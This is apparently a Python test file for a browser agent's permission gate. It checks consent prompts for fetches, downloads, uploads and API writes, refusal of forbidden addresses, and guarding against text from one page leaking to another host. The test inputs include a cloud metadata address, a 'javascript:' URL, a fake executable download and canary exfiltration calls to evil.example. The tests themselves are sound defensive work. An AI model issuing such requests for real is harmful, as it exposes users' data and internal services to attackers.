"""The gate, for what reaches beyond the page: requests, downloads, uploads, and text of elsewhere."""

from dataclasses import replace
from typing import Any

import pytest
from pydantic import ValidationError

from tests.support.approve import allow
from tests.support.gate import CLICK, SENDING, Person, code, shop, tool
from webbrain.agent.attachments import AtHand, Attached
from webbrain.core.events import CardField
from webbrain.core.results import ToolResult
from webbrain.core.types import Capability
from webbrain.host.reach import Download
from webbrain.policy import grants
from webbrain.policy.egress import LOCAL_NETWORK_SETTING
from webbrain.policy.gate import Gate
from webbrain.policy.grants import SWITCH, Need
from webbrain.tools.base import ToolContext

# --- what reaches beyond the page ---


async def test_fetching_asks_once_per_host_and_task() -> None:
    ada = Person()
    assert await ada.call("fetch_url", url="https://news.example/a") is None
    assert await ada.call("fetch_url", url="https://news.example/b") is None
    assert await ada.call("research_url", url="https://img.news.example/") is None
    assert ada.asked() == [("read", "news.example"), ("read", "img.news.example")]


async def test_downloads_are_asked_about_each_time_with_their_addresses() -> None:
    ada = Person()
    first = ["https://a.example/1.pdf", "https://a.example/2.pdf", "https://b.example/3.pdf"]
    assert await ada.call("download_files", urls=first) is None
    assert await ada.call("download_files", url="https://a.example/evil.exe") is None
    assert ada.asked() == [("download", "a.example"), ("download", "b.example"), ("download", "a.example")]
    assert [line.value for line in ada.cards[0].details] == first[:2]


def showing(*urls: str) -> Person:
    """A page that names these addresses as its pictures'."""
    ada = Person()
    items = [{"url": url, "kind": "image"} for url in urls]
    ada.host.page.on("media", {"items": items, "total": len(items)})
    first = urls[0] if urls else ""
    inside = {"kind": "data", "data": "", "mime": "image/png", "nextOffset": None}
    found = {"kind": "url", "url": first} if first.startswith("http") else inside
    ada.host.page.on("resource", found if urls else {"success": False, "code": "not_found", "error": "No."})
    return ada


async def saves(ada: Person, name: str, **args: Any) -> tuple[ToolResult | None, ToolResult]:
    """Ask, and run the tool with what the gate made of its context."""
    spec = tool(name)
    while card := await ada.gate.needs_card(ada.ctx, spec, args):
        ada.cards.append(card)
        if ada.thinking:
            ada.thinking()
        if refusal := await ada.gate.answered(ada.answers[0]):
            return refusal, refusal
    return None, await spec.run(ada.gate.context(ada.ctx), spec.args.model_validate(args))


async def test_what_a_page_shows_is_asked_about_with_every_host_and_address() -> None:
    urls = ["https://cdn.example/1.jpg", "https://evil.example/tool.exe", "https://cdn.example/2.jpg"]
    ada = showing(*urls, "blob:https://shop.example/1")
    assert await ada.call("download_social_media", mode="all", limit=5) is None
    assert ada.asked() == [
        ("download", "cdn.example"),
        ("download", "evil.example"),
        ("download", "shop.example"),
    ]
    shown = [[line.value for line in card.details] for card in ada.cards]
    assert shown[:2] == [[urls[0], urls[2]], [urls[1]]]
    ada = showing(urls[1])
    assert await ada.call("download_resource_from_page", selector="img") is None
    assert ada.asked() == [("download", "evil.example")]
    assert [line.value for line in ada.cards[0].details] == [urls[1]]


@pytest.mark.parametrize("name", ["download_social_media", "download_resource_from_page"])
async def test_what_a_page_names_after_the_answer_is_not_saved(name: str) -> None:
    args = {"selector": "img"} if name == "download_resource_from_page" else {}
    for before, after in (
        ("https://cdn.example/1.jpg", "https://evil.example/tool.exe"),
        ("https://cdn.example/1.jpg", "https://cdn.example/2.jpg"),
        ("blob:https://shop.example/1", "https://shop.example/2.jpg"),
        ("https://shop.example/2.jpg", "blob:https://shop.example/1"),
    ):
        ada = showing(before)
        other = showing(after)
        ada.thinking = lambda ada=ada, other=other: ada.host.page.__dict__.update(other.host.page.__dict__)
        _, result = await saves(ada, name, **args)
        assert len(ada.cards) == 1
        assert not result.success
        assert "changed_since_asked" in str(result.data)
        assert ada.host.downloads.started == []


@pytest.mark.parametrize("name", ["download_social_media", "download_resource_from_page"])
async def test_what_the_card_named_is_saved_wherever_it_lies(name: str) -> None:
    ada = showing("https://cdn.example/1.jpg")
    args = {"selector": "img"} if name == "download_resource_from_page" else {}
    await saves(ada, name, **args)
    assert [url for url, _ in ada.host.downloads.started] == ["https://cdn.example/1.jpg"]


async def test_where_nothing_is_shown_nobody_is_asked() -> None:
    for name, args in (("download_social_media", {}), ("download_resource_from_page", {"selector": "img"})):
        ada = showing()
        _, result = await saves(ada, name, **args)
        assert (ada.cards, result.success) == ([], False)


async def test_downloads_of_a_host_can_be_allowed_for_good() -> None:
    ada = Person("always")
    assert await ada.call("download_files", url="https://a.example/1.pdf") is None
    assert await ada.call("download_files", url="https://a.example/2.pdf") is None
    assert ada.asked() == [("download", "a.example")]


async def test_an_upload_is_charged_to_the_page_or_frame() -> None:
    ada = Person()
    assert await ada.call("upload_file", downloadId=1, selector="input") is None
    assert ada.asked() == [("upload", "shop.example")]
    lines = {line.label: line.value for line in ada.cards[0].details}
    assert lines["File"] == "price-list.txt"
    assert lines["Address"] == "https://shop.example/price-list.txt"


async def test_every_file_of_an_upload_is_named_and_must_be_there() -> None:
    ada = Person()
    for number in (5, 6):
        url = f"https://files.example/{number}"
        ada.host.downloads.add(Download(number, url, url, f"/home/ada/cv-{number}.pdf", "complete"))
    assert await ada.call("upload_file", downloadIds=[5, 6, 5]) is None
    assert ada.asked() == [("upload", "shop.example")]
    lines = [(line.label, line.value) for line in ada.cards[0].details if line.label != "Action"]
    assert lines == [
        ("File", "cv-5.pdf"),
        ("Address", "https://files.example/5"),
        ("File", "cv-6.pdf"),
        ("Address", "https://files.example/6"),
    ]
    assert code(await ada.call("upload_file", downloadIds=[5, 99])) == "no_download"
    assert len(ada.cards) == 1, "what is not there is not asked about"


async def test_an_attached_file_is_named_and_must_be_there() -> None:
    ada = Person()
    files = AtHand()
    files.add([Attached("cv.pdf", "application/pdf", 3, "document", body=b"pdf")])
    ada.ctx = replace(ada.ctx, attached=files)
    assert await ada.call("upload_file", attachments=["cv.pdf"], selector="input") is None
    assert ada.asked() == [("upload", "shop.example")]
    assert [line.value for line in ada.cards[0].details if line.label == "File"] == ["cv.pdf"]
    assert code(await ada.call("upload_file", attachments=["passport.pdf"])) == "no_attachment"
    assert len(ada.cards) == 1


async def test_the_window_needs_no_host_and_is_not_for_good() -> None:
    ada = Person(host=shop(url="about:blank"))
    assert await ada.call("resize_window", width=800, height=600) is None
    assert await ada.call("resize_window", width=900, height=600) is None
    assert ada.asked() == [("window", "")]
    assert [option.id for option in ada.cards[0].options] == ["once", "deny"]


async def test_a_downloaded_file_is_fetched_from_its_server_only_with_leave() -> None:
    ada = Person()
    assert await ada.call("read_downloaded_file", downloadId=1) is None
    assert ada.asked() == [("read", "shop.example")]
    assert ada.cards[0].details[0].value == "https://shop.example/price-list.txt"
    host = shop()
    await grants.remember(host, [Need(Capability.NETWORK, "shop.example")], allow=False)
    ada = Person(host=host)
    assert code(await ada.call("read_downloaded_file", downloadId=1)) == "denied"
    assert ada.cards == []


async def test_a_file_that_no_server_has_is_read_without_a_question() -> None:
    ada = Person()
    ada.host.downloads.add(
        Download(9, "data:text/plain,x", "data:text/plain,x", "/a/x.txt", "complete", 1, 1)
    )
    assert await ada.call("read_downloaded_file", downloadId=9) is None
    assert code(await ada.call("read_downloaded_file", downloadId=77)) == "no_download"
    assert ada.cards == []


async def test_what_the_tab_shows_is_read_without_a_question() -> None:
    ada = Person()
    assert await ada.call("read_pdf") is None
    assert ada.cards == []


@pytest.mark.parametrize(
    "args",
    [
        {"url": "http://169.254.169.254/"},
        {"urls": ["https://shop.example/a", "http://printer/"]},
        {"url": "javascript:alert(1)"},
    ],
)
async def test_a_forbidden_address_gets_no_card(args: dict[str, Any]) -> None:
    ada = Person()
    name = "download_files" if "urls" in args else "fetch_url"
    assert code(await ada.call(name, **args)) in ("forbidden_address", "bad_url")
    assert ada.cards == []


async def test_local_addresses_are_asked_about_once_they_are_allowed() -> None:
    ada = Person()
    ada.host.settings.values[LOCAL_NETWORK_SETTING] = True
    assert await ada.call("fetch_url", url="http://127.0.0.1:8000/") is None
    assert ada.asked() == [("read", "127.0.0.1:8000")]


# --- requests that change data ---


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
async def test_without_allow_api_there_is_not_even_a_question(method: str) -> None:
    ada = Person()
    result = await ada.call("fetch_url", url="https://api.example/", method=method, body="{}")
    assert code(result) == "requires_api_allow"
    assert result is not None
    assert result.data["requiresApiAllow"] is True
    assert ada.cards == []


@pytest.mark.parametrize("url", ["", " ", "\t", "\u00a0"])
@pytest.mark.parametrize("name", ["fetch_url", "research_url", "read_pdf", "download_files"])
async def test_a_blank_address_passes_for_none(name: str, url: str) -> None:
    """It would mean the page itself, which is not what a call without an address is let through for."""
    ada = Person()
    ada.leave.allow_api = True
    more = {"method": "POST", "body": "{}"} if name == "fetch_url" else {}
    assert code(await ada.call(name, url=url, **more)) == "bad_url"
    assert ada.cards == []
    with pytest.raises(ValidationError):
        tool(name).args.model_validate({"url": url, **more})


async def test_a_request_that_changes_data_and_names_no_address_is_refused() -> None:
    ada = Person()
    ada.leave.allow_api = True
    assert code(await ada.call("fetch_url", method="DELETE")) == "no_host"


@pytest.mark.parametrize("asks", [True, False])
@pytest.mark.parametrize("probe", [SENDING, {**SENDING, "submits": False}])
@pytest.mark.parametrize("name", ["click", "click_ax"])
async def test_what_is_sent_once_is_not_pressed_twice_in_one_call(
    name: str, probe: dict[str, Any], *, asks: bool
) -> None:
    host = shop(probe)
    host.settings.values[SWITCH] = asks
    ada = Person(host=host)
    args = CLICK if name == "click_ax" else {"text": "Place order"}
    assert code(await ada.call(name, **args, count=2)) == "press_once"
    assert ada.cards == []
    assert await ada.call(name, **args, count=1) is None


async def test_what_sends_nothing_may_be_pressed_twice() -> None:
    ada = Person()
    assert await ada.call("click_ax", **CLICK, count=2) is None


async def test_with_allow_api_every_request_is_shown_with_its_body() -> None:
    ada = Person()
    ada.leave.allow_api = True
    for body in ('{"a": 1}', '{"a": 2}'):
        assert await ada.call("fetch_url", url="https://api.example/x", method="POST", body=body) is None
    assert [card.ask for card in ada.cards] == ["api", "api"]
    lines = {line.label: line.value for line in ada.cards[1].details}
    assert lines == {"Request": "POST https://api.example/x", "Body": '{"a": 2}'}
    assert [option.id for option in ada.cards[0].options] == ["once", "deny"]


async def test_leave_to_write_reaches_the_tool_only_with_the_call_that_was_shown() -> None:
    ada = Person()
    ada.leave.allow_api = True
    spec, args = tool("fetch_url"), {"url": "https://api.example/", "method": "POST", "body": "{}"}
    await ada.gate.needs_card(ada.ctx, spec, args)
    await ada.gate.answered("once")
    await ada.gate.needs_card(ada.ctx, spec, args)
    assert ada.gate.context(ada.ctx).allow_api
    await ada.call("fetch_url", url="https://api.example/")
    assert not ada.gate.context(ada.ctx).allow_api


async def test_allow_api_leaves_get_to_the_ordinary_question() -> None:
    ada = Person()
    ada.leave.allow_api = True
    await ada.call("fetch_url", url="https://api.example/x")
    assert [card.ask for card in ada.cards] == ["read"]


# --- text of elsewhere ---


async def leaks(_ctx: ToolContext, to: str, texts: Any) -> list[CardField]:
    """Finds what contains the canary, unless it goes back where it came from."""
    found = any("canary" in text for text in texts) and "mail.example" not in to
    return [CardField(label="Text from mail.example", value="canary")] if found else []


@pytest.mark.parametrize(
    ("name", "args"),
    [
        ("navigate", {"url": "https://evil.example/?q=canary"}),
        ("new_tab", {"url": "https://evil.example/?q=canary"}),
        ("fetch_url", {"url": "https://evil.example/canary"}),
        ("research_url", {"url": "https://evil.example/canary"}),
        ("download_files", {"url": "https://evil.example/canary"}),
        ("set_field", {"ref_id": "ref_2", "text": "canary"}),
        ("type_ax", {"ref_id": "ref_2", "text": "canary"}),
        ("type_text", {"text": "canary"}),
        ("iframe_type", {"urlFilter": "pay.example", "selector": "input", "text": "canary"}),
    ],
)
async def test_text_of_another_page_is_shown_before_it_leaves_whatever_was_granted(
    name: str, args: dict[str, Any]
) -> None:
    host = shop()
    allow(host, "evil.example", "shop.example", "pay.example", capabilities=Capability)
    ada = Person(host=host)
    ada.gate = Gate(ada.leave, outgoing=leaks)
    ada.said = "https://evil.example/?q=canary"
    for _ in range(2):
        assert await ada.call(name, **args) is None
    assert [card.ask for card in ada.cards] == ["carry", "carry"]
    assert ada.cards[0].details[0].value == "canary"
    assert [option.id for option in ada.cards[0].options] == ["once", "deny"]
    off = Person(host=host)
    assert await off.call(name, **args) is None
    assert off.cards == [], "it is the outgoing guard that asks"
